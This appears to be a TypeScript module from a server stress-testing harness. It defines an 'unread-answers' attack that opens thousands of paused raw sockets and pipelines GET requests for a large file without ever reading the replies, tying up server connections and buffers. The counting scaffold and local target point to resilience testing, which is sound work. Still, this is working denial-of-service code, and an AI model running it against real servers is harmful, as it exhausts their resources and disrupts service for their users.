import { type Attack, sleep } from "../attack.ts";
import { isConnected, openSocket } from "../client/raw-socket.ts";
import { LARGE_FILE } from "../target.ts";

const CONNECTIONS = 6_050;
/** Requests on each connection: more bytes than the kernel keeps for one that does not read. */
const REQUESTS = 4;

/** Requests whose answers are never read: each keeps a connection, and what waits for it. */
export const unreadAnswers: Attack = {
  name: "unread-answers",
  what: `${CONNECTIONS} GETs of a large file are never read`,
  async run(run) {
    const request = `GET ${LARGE_FILE} HTTP/1.1\r\nHost: 127.0.0.1:${run.target.port}\r\n\r\n`.repeat(REQUESTS);
    const open = async (): Promise<void> => {
      const socket = openSocket(run.target, run.address);
      socket.pause();
      if (!(await isConnected(socket))) return run.count("refused");
      run.count("open");
      socket.on("close", () => run.count("cut"));
      socket.write(request);
    };
    for (let i = 0; i < CONNECTIONS && !run.isOver(); i += 50) await Promise.all(Array.from({ length: 50 }, open));
    while (!run.isOver()) await sleep(50);
  },
};
